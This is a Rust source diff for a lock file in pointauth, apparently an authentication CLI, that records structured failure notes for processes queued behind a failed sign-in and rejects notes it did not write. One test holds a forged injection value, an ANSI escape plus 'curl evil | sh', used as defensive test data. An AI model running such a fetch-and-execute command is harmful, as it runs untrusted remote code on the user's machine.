@@ -1,28 +1,70 @@
-//! The per-profile lock that makes refresh and sign-in single-flight across processes.
+//! The per-profile lock that makes refresh and sign-in single-flight across processes, and
+//! the failure note it carries for the processes that queued behind a failed call.
 
 use std::fs::{File, OpenOptions, TryLockError};
 use std::io::{Read, Seek, SeekFrom, Write};
-use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+use std::path::PathBuf;
+use std::time::{Duration, Instant};
 
-use crate::error::{Error, Kind, Result, io_error};
-use crate::settings::Paths;
+use serde::{Deserialize, Serialize};
+
 use crate::store::file::ensure_private_dir;
+use crate::store::{Paths, StoreError, StoreResult};
 
 /// An exclusive lock on `<state>/locks/<profile>.lock`, released on drop (or process exit,
-/// so a crashed holder never leaves a stale lock behind).
-///
-/// The lock file also carries the outcome of the last refresh that failed for a passing
-/// reason, so processes that queued behind it reuse that result instead of each retrying.
+/// so a crashed holder never leaves a stale lock behind). The lock is on a file of its own,
+/// not on the session file, because atomic renames replace the session file's inode.
 #[derive(Debug)]
-pub struct ProfileLock {
+pub(crate) struct ProfileLock {
     file: File,
 }
 
+/// A failed sign-in or refresh, as recorded for waiters: structured fields only, never
+/// free text from the service, so nothing in it can be shown that pointauth did not write.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub(crate) struct Note {
+    /// When, in milliseconds since the Unix epoch.
+    pub(crate) at_ms: u64,
+    /// `sign-in` or `refresh`.
+    pub(crate) call: String,
+    pub(crate) base_url: String,
+    pub(crate) username: String,
+    /// The exit code the failure meant.
+    pub(crate) exit: u8,
+    /// The HTTP status, if the service answered.
+    pub(crate) status: Option<u16>,
+    /// The service's error code (`INVALID_PASSWORD`), if it gave one.
+    pub(crate) code: Option<String>,
+    /// Tells apart the credential that was sent (the password, or the refresh token) from
+    /// another, so a corrected password is tried at once: 16 bits of a hash keyed by `salt`,
+    /// too few to learn the credential from, enough to see it changed.
+    pub(crate) salt: u64,
+    pub(crate) tag: u16,
+}
+
+impl Note {
+    /// The tag of `secret` under `salt`.
+    pub(crate) fn tag_of(salt: u64, secret: &[u8]) -> u16 {
+        use std::hash::{Hash, Hasher};
+        // SipHash with fixed keys, salted: a hash, not a MAC; only 16 bits are kept.
+        let mut hasher = std::collections::hash_map::DefaultHasher::new();
+        salt.hash(&mut hasher);
+        secret.hash(&mut hasher);
+        (hasher.finish() & 0xffff) as u16
+    }
+}
+
+/// No note is longer than this; a longer lock file is not ours to read.
+const MAX_NOTE: u64 = 4096;
+
 impl ProfileLock {
-    /// Waits up to `patience` for the lock. The lock is on its own file, not on the session
-    /// file, because atomic renames replace the session file's inode.
-    pub fn acquire(paths: &Paths, profile: &str, patience: Duration) -> Result<ProfileLock> {
-        let dir = paths.state.join("locks");
+    /// Waits up to `patience` for the lock.
+    pub(crate) fn acquire(
+        paths: &Paths,
+        profile: &str,
+        patience: Duration,
+    ) -> StoreResult<ProfileLock> {
+        let dir = paths.lock_dir();
         ensure_private_dir(&dir)?;
         let path = dir.join(format!("{profile}.lock"));
         let mut options = OpenOptions::new();
@@ -31,7 +73,7 @@ impl ProfileLock {
         std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
         let file = options
             .open(&path)
-            .map_err(|err| io_error(format!("cannot open lock file {}", path.display()), err))?;
+            .map_err(|err| StoreError::io("open the lock file", &path, err))?;
         let deadline = Instant::now() + patience;
         let mut pause = Duration::from_millis(2);
         loop {
@@ -42,61 +84,35 @@ impl ProfileLock {
                     pause = (pause * 2).min(Duration::from_millis(50));
                 }
                 Err(TryLockError::WouldBlock) => {
-                    return Err(Error::internal(format!(
-                        "another pointauth process has held the lock for profile `{profile}` for over {} s",
-                        patience.as_secs()
-                    ))
-                    .hint(format!(
-                        "wait for it to finish, or find it with `fuser {}`",
-                        path.display()
-                    )));
+                    return Err(busy(profile, patience, path));
                 }
                 Err(TryLockError::Error(err)) => {
-                    return Err(io_error(format!("cannot lock {}", path.display()), err));
+                    return Err(StoreError::io("lock", &path, err));
                 }
             }
         }
     }
-}
 
-impl ProfileLock {
-    /// Records that a call just failed. `scope` names the call and the identity it was
-    /// for (e.g. `sign-in https://host alice`): only a waiter making the very same call
-    /// reuses the answer, never one signing in as someone else. Nothing here is secret.
-    pub fn note_failure(&self, scope: &str, error: &Error) {
-        let note = format!(
-            "failed {} {}\n{}\n{}",
-            millis(SystemTime::now()),
-            error.kind().code(),
-            scope.replace('\n', " "),
-            error.message()
-        );
-        // Best effort: without the note, waiters merely retry themselves.
-        let _ = self.rewrite(note.as_bytes());
+    /// The note another process left, if it is one pointauth wrote.
+    pub(crate) fn note(&self) -> Option<Note> {
+        let mut text = String::new();
+        (&self.file).seek(SeekFrom::Start(0)).ok()?;
+        (&self.file).take(MAX_NOTE).read_to_string(&mut text).ok()?;
+        let note: Note = serde_json::from_str(&text).ok()?;
+        note.is_well_formed().then_some(note)
+    }
+
+    /// Records a failure for the processes waiting behind this one. Best effort: without
+    /// the note, waiters merely try themselves.
+    pub(crate) fn set_note(&self, note: &Note) {
+        if let Ok(text) = serde_json::to_string(note) {
+            let _ = self.rewrite(text.as_bytes());
+        }
     }
 
     /// Forgets a recorded failure after a success.
-    pub fn clear_failure(&self) {
+    pub(crate) fn clear_note(&self) {
         let _ = self.rewrite(b"");
-    }
-
-    /// The failure another process recorded for `scope` at or after `since`, if any.
-    pub fn failure_since(&self, since: SystemTime, scope: &str) -> Option<Error> {
-        let mut text = String::new();
-        (&self.file).seek(SeekFrom::Start(0)).ok()?;
-        (&self.file).take(4096).read_to_string(&mut text).ok()?;
-        let (head, rest) = text.split_once('\n')?;
-        let (noted_scope, message) = rest.split_once('\n')?;
-        if noted_scope != scope.replace('\n', " ") {
-            return None;
-        }
-        let (at, code) = head.strip_prefix("failed ")?.split_once(' ')?;
-        let at: u128 = at.parse().ok()?;
-        let kind = Kind::from_code(code.parse().ok()?)?;
-        (at >= millis(since)).then(|| {
-            Error::new(kind, message)
-                .hint("another pointauth process just tried and got this answer; retry later")
-        })
     }
 
     fn rewrite(&self, bytes: &[u8]) -> std::io::Result<()> {
@@ -106,21 +122,75 @@ impl ProfileLock {
     }
 }
 
-fn millis(at: SystemTime) -> u128 {
-    at.duration_since(UNIX_EPOCH).map_or(0, |d| d.as_millis())
+impl Note {
+    /// Only what pointauth itself writes: a known call, a contract exit code, an HTTP
+    /// status, a service code of capitals, digits and `_`.
+    fn is_well_formed(&self) -> bool {
+        let code_ok = self.code.as_deref().is_none_or(|code| {
+            let mut chars = code.chars();
+            code.len() <= 64
+                && chars.next().is_some_and(|c| c.is_ascii_uppercase())
+                && chars.all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
+        });
+        matches!(self.call.as_str(), "sign-in" | "refresh")
+            && (1..=5).contains(&self.exit)
+            && self
+                .status
+                .is_none_or(|status| (100..=599).contains(&status))
+            && code_ok
+    }
+}
+
+fn busy(profile: &str, patience: Duration, path: PathBuf) -> StoreError {
+    StoreError::Busy {
+        profile: profile.to_owned(),
+        waited: patience,
+        path,
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    fn paths(home: &tempfile::TempDir) -> Paths {
+        Paths {
+            data: home.path().join("data"),
+            state: home.path().join("state"),
+        }
+    }
+
+    fn note() -> Note {
+        Note {
+            at_ms: 1_700_000_000_000,
+            call: "sign-in".into(),
+            base_url: "https://h.example".into(),
+            username: "alice".into(),
+            exit: 4,
+            status: Some(400),
+            code: Some("INVALID_PASSWORD".into()),
+            salt: 7,
+            tag: Note::tag_of(7, b"hunter22"),
+        }
+    }
+
+    #[test]
+    fn a_tag_tells_another_credential_apart_and_shows_little_of_it() {
+        assert_eq!(Note::tag_of(7, b"hunter22"), Note::tag_of(7, b"hunter22"));
+        let differing = (0..64u64)
+            .filter(|salt| Note::tag_of(*salt, b"hunter22") != Note::tag_of(*salt, b"hunter23"))
+            .count();
+        assert!(differing >= 62, "{differing}");
+        let distinct: std::collections::BTreeSet<u16> = (0..64u64)
+            .map(|salt| Note::tag_of(salt, b"hunter22"))
+            .collect();
+        assert!(distinct.len() >= 60, "the salt changes the tag");
+    }
+
     #[test]
     fn a_second_holder_waits_then_gives_up() {
         let home = tempfile::tempdir().unwrap();
-        let paths = Paths {
-            data: home.path().join("data"),
-            state: home.path().join("state"),
-        };
+        let paths = paths(&home);
         let first = ProfileLock::acquire(&paths, "p", Duration::from_secs(1)).unwrap();
         let started = Instant::now();
         let second = ProfileLock::acquire(&paths, "p", Duration::from_millis(200));
@@ -133,37 +203,45 @@ mod tests {
     }
 
     #[test]
-    fn a_recorded_failure_is_seen_only_by_those_who_waited_for_it() {
+    fn a_note_is_read_back_by_the_next_holder_and_cleared() {
         let home = tempfile::tempdir().unwrap();
-        let paths = Paths {
-            data: home.path().join("data"),
-            state: home.path().join("state"),
-        };
-        let before = SystemTime::now();
+        let paths = paths(&home);
         let lock = ProfileLock::acquire(&paths, "p", Duration::from_secs(1)).unwrap();
-        let scope = "sign-in https://h alice";
-        lock.note_failure(
-            scope,
-            &Error::new(Kind::Credentials, "sign-in failed: HTTP 400"),
-        );
+        assert_eq!(lock.note(), None);
+        lock.set_note(&note());
         drop(lock);
         let lock = ProfileLock::acquire(&paths, "p", Duration::from_secs(1)).unwrap();
-        let seen = lock
-            .failure_since(before, scope)
-            .expect("the recorded failure");
-        assert_eq!(seen.message(), "sign-in failed: HTTP 400");
-        assert_eq!(seen.kind(), Kind::Credentials);
-        assert!(
-            lock.failure_since(before, "sign-in https://h bob")
-                .is_none()
-        );
-        assert!(
-            lock.failure_since(before, "refresh https://h alice")
-                .is_none()
-        );
-        let later = SystemTime::now() + Duration::from_millis(5);
-        assert!(lock.failure_since(later, scope).is_none());
-        lock.clear_failure();
-        assert!(lock.failure_since(before, scope).is_none());
+        assert_eq!(lock.note(), Some(note()));
+        lock.clear_note();
+        assert_eq!(lock.note(), None);
+    }
+
+    #[test]
+    fn a_note_pointauth_did_not_write_is_ignored() {
+        let home = tempfile::tempdir().unwrap();
+        let paths = paths(&home);
+        let lock = ProfileLock::acquire(&paths, "p", Duration::from_secs(1)).unwrap();
+        let forged = [
+            Note {
+                code: Some("\u{1b}[31mcurl evil | sh".into()),
+                ..note()
+            },
+            Note { exit: 0, ..note() },
+            Note {
+                call: "anything".into(),
+                ..note()
+            },
+            Note {
+                status: Some(1000),
+                ..note()
+            },
+        ];
+        for note in forged {
+            lock.set_note(&note);
+            assert_eq!(lock.note(), None, "{note:?}");
+        }
+        lock.rewrite(b"failed 1 4\nsign-in https://h alice\nfree text")
+            .unwrap();
+        assert_eq!(lock.note(), None);
     }
 }
